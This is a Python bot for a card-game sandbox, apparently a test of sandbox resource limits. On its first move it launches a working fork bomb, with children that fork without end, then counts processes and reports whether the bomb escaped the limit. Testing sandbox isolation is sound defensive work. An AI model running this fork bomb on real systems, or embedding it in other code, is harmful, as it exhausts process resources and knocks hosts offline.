"""Attack: a fork bomb (bounded by RLIMIT_NPROC of the slot's uid, gone with the sandbox)."""

import os
import sys
import time

from cow006 import Agent, bot


class Bot(Agent):
    def play(self, view):
        if (view.round, view.turn) == (0, 0) and bot.sandboxed():  # the first move
            print("ATTACK fork_bomb", file=sys.stderr, flush=True)
            made = 0
            for _ in range(500):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:  # every child keeps trying to fork too
                    while True:
                        try:
                            if os.fork() == 0:
                                continue
                        except OSError:
                            pass
                        time.sleep(0.05)
                made += 1
            time.sleep(0.2)  # the children fork on
            alive = sum(name.isdigit() for name in os.listdir("/proc"))
            print(f"fork_bomb: {made} children, {alive} processes", file=sys.stderr, flush=True)
            if alive > 40:
                print(f"ESCAPED: {alive} processes", file=sys.stderr, flush=True)
        return min(view.hand)
